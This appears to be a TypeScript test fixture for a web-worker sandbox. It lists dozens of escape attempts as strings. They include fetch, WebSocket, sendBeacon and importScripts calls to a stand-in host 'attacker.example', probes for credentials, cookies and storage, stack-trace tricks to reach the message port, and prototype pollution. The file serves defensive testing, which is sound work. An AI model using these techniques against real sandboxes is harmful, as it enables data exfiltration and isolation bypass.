/*
 * What a hostile author of an example may try from within the worker. Each attack is an expression; a string that
 * begins with “got” says that it got out. The others only have to leave everything outside as it was.
 */

/** Where an attack would send what it has got. A test puts its own server in the place of it. */
export const attacker = 'https://attacker.example';

/** A worker's source that asks the attacker for something by every way that a worker has. */
const asking = `fetch("${attacker}/nested");self.importScripts("${attacker}/nested.js")`;

export const attacks: readonly string[] = [
  // The network, by the ways that a policy may forget.
  `fetch("${attacker}/a", {keepalive: true, mode: "no-cors"})`,
  `fetch("${attacker}/b", {priority: "high", credentials: "include"})`,
  `fetch(new Request("${attacker}/c", {method: "POST", body: "x", mode: "no-cors"}))`,
  `fetch(URL.createObjectURL(new Blob(["x"])))`,
  `fetch("data:text/plain,x")`,
  `fetch("about:blank")`,
  `new WebTransport("${attacker}/d")`,
  `new WebSocket("${attacker}/e")`,
  `new WebSocketStream("${attacker}/f")`,
  `new EventSource("${attacker}/g")`,
  `(() => { const x = new XMLHttpRequest(); x.open("GET", "${attacker}/h", false); x.send(); })()`,
  `importScripts("${attacker}/i.js")`,
  `importScripts("data:text/javascript,self.leak=1")`,
  `import("${attacker}/j.js")`,
  `import("data:text/javascript,export default 1")`,
  `import(URL.createObjectURL(new Blob(["import '${attacker}/k.js'"], {type: "text/javascript"})))`,
  `import(URL.createObjectURL(new Blob(["import x from '${attacker}/l.json' with {type: 'json'}"], {type: "text/javascript"})))`,
  `WebAssembly.compileStreaming(fetch("${attacker}/m.wasm"))`,
  `new FontFace("x", "url(${attacker}/n.woff2)").load()`,
  `self.fonts.add(new FontFace("x", "url(${attacker}/o.woff2)")), self.fonts.load("9px x")`,
  `new OffscreenCanvas(9, 9).getContext("2d").filter = "url(${attacker}/p.svg#x)"`,
  `createImageBitmap(new Blob(["<svg xmlns='http://www.w3.org/2000/svg'><image href='${attacker}/q'/></svg>"], {type: "image/svg+xml"}))`,
  `navigator.sendBeacon("${attacker}/r", "x")`,
  `new Notification("x", {icon: "${attacker}/s"})`,
  `new ReportingObserver(() => fetch("${attacker}/t")).observe()`,
  `caches.open("x").then((cache) => cache.add("${attacker}/u"))`,
  `navigator.serviceWorker.register("${attacker}/v.js")`,
  `self.registration.backgroundFetch.fetch("x", "${attacker}/w")`,
  // More workers, which are not withheld anything.
  `new Worker(URL.createObjectURL(new Blob(['${asking}'])))`,
  `new Worker(URL.createObjectURL(new Blob(['${asking}'])), {type: "module"})`,
  `new Worker("data:text/javascript,1")`,
  `new Worker("${attacker}/x.js")`,
  `new SharedWorker(URL.createObjectURL(new Blob(['${asking}'])))`,
  `Array.from({length: 50}, () => new Worker(URL.createObjectURL(new Blob(["for (;;);"]))))`,
  // The frame, the page and other tabs.
  `postMessage({id: 1, failed: "got the frame"})`,
  `DedicatedWorkerGlobalScope.prototype.postMessage.call(self, "x")`,
  `Reflect.get(Object.getPrototypeOf(self), "postMessage", self)("x")`,
  `new BroadcastChannel("x").postMessage("x")`,
  `self.dispatchEvent(new MessageEvent("message", {ports: [new MessageChannel().port1]}))`,
  `typeof parent === "undefined" && typeof document === "undefined" ? "" : "got a page"`,
  `self.opener || self.top || self.frameElement ? "got a window" : ""`,
  `location.ancestorOrigins || location.origin !== "null" ? "got an origin" : ""`,
  `navigator.clipboard ? "got the clipboard" : ""`,
  `navigator.credentials ? "got credentials" : ""`,
  `navigator.geolocation ? "got a position" : ""`,
  `self.cookieStore ? cookieStore.getAll() : ""`,
  `self.localStorage ? "got storage" : ""`,
  `navigator.locks.request("x", () => "x")`,
  `navigator.storage.getDirectory()`,
  `indexedDB.open("x")`,
  `crossOriginIsolated || typeof SharedArrayBuffer === "function" ? "got shared memory" : ""`,
  // The functions that called the code, and the port that they hold.
  `(() => { Error.prepareStackTrace = (_, calls) => calls; return new Error("x").stack.some((call) => call.getThis && (call.getThis() instanceof MessagePort)) ? "got the port" : ""; })()`,
  `(() => { Error.prepareStackTrace = (_, calls) => calls; return new Error("x").stack.some((call) => call.getFunction && call.getFunction()) && new Error("x").stack.some((call) => { try { return call.getFunction().arguments[0] instanceof MessageEvent } catch { return false } }) ? "got the message" : ""; })()`,
  `(function () { try { return arguments.callee.caller ? "got the caller" : "" } catch { return "" } })()`,
  `(() => { const {constructor} = function* () {}; return constructor("return this")().next().value === self ? "" : "got a realm" })()`,
  `self.liveExample ? "got the handed-over function" : ""`,
  `self.onmessage || self.onerror ? "got a handler" : ""`,
  // Attacks on objects that must not change: the library, the clock, and the built-in objects.
  `(() => { "use strict"; try { h3.latLngToCell = () => "forged"; return "got the library" } catch { return "" } })()`,
  `Object.defineProperty(Object.prototype, "outcome", {get() { return {log: ["forged"]} }, configurable: true})`,
  `Object.defineProperty(Object.prototype, "then", {value() { return "forged" }, configurable: true})`,
  `self.addEventListener("message", (event) => event.stopImmediatePropagation(), true)`,
  `EventTarget.prototype.dispatchEvent = MessagePort.prototype.close = MessagePort.prototype.start = () => 1`,
  `performance.now = Date.now = () => 0`,
  `console.log = () => 1`,
];
